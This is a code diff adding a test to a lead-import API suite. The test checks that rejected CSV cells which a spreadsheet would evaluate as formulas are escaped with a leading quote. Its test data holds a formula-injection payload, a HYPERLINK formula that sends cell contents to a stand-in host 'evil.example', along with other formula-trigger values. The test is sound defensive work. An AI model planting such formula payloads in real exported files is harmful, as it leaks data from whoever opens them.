@@ -59,12 +59,35 @@ describeEachDialect('POST /v1/imports', (ctx) => {
       const lines = (res.body as string).trimEnd().split('\r\n');
       expect(lines[0]).toBe('First Name,Phone,Email,tz,Note,reason');
       expect(lines.slice(1)).toEqual([
-        `,${rows[1]![1]},,,no first name,firstName is missing (every lead needs a first name)`,
+        // A phone number starts with + and is written behind a quote, as any cell a spreadsheet would run.
+        `,'${rows[1]![1]},,,no first name,firstName is missing (every lead needs a first name)`,
         'NoAddress,,,,y,the row has neither a phone nor an email (a lead needs one of them)',
         'BadPhone,12,,,z,"phone ""12"" is not a valid phone number"',
         'BadEmail,,not-an-email,,w,"email ""not-an-email"" is not a valid email address"',
-        `BadZone,${rows[5]![1]},,Mars/Olympus,v,"timeZone ""Mars/Olympus"" is not a known IANA time zone (like America/Chicago)"`,
+        `BadZone,'${rows[5]![1]},,Mars/Olympus,v,"timeZone ""Mars/Olympus"" is not a known IANA time zone (like America/Chicago)"`,
       ]);
+    });
+
+    it('serves rejected cells that a spreadsheet would run as a formula with a leading quote (phone numbers too)', async () => {
+      const { acme } = ctx();
+      const rows = [
+        ['=HYPERLINK("http://evil.example/?"&A1)', '+1 12', '@SUM(A1:A9)', '-2+3', '\tcmd'],
+        ['+Ann', '12', 'plain', '\r=1', 'x'],
+      ];
+      const done = await importCsv(acme, [csvLine(['First Name', 'Phone', 'Note', 'Other', 'Tab']), ...rows.map((r) => csvLine(r))].join('\n'));
+      expect(done).toMatchObject({ status: 'completed', total: 2, created: 0, rejected: 2 });
+      const res = await acme.get(`/imports/${done.id}/rejects`);
+      expect(res.status).toBe(200);
+      expect((res.body as string).split('\r\n')).toEqual([
+        'First Name,Phone,Note,Other,Tab,reason',
+        `"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 12,'@SUM(A1:A9),'-2+3,"'\tcmd","phone ""+1 12"" is not a valid phone number"`,
+        `'+Ann,12,plain,"'\r=1",x,"phone ""12"" is not a valid phone number"`,
+        '',
+      ]);
+      // A phone number written behind the quote imports as it is again (docs/imports.md).
+      const phone = importPhone();
+      expect(await importCsv(acme, `First Name,Phone\nQuoted,'${phone}\n`)).toMatchObject({ created: 1, rejected: 0 });
+      expect((await byPhone(acme, [phone]))[0]).toMatchObject({ firstName: 'Quoted', phone });
     });
 
     it('an empty body or a map naming a missing column is a 400 and records nothing', async () => {
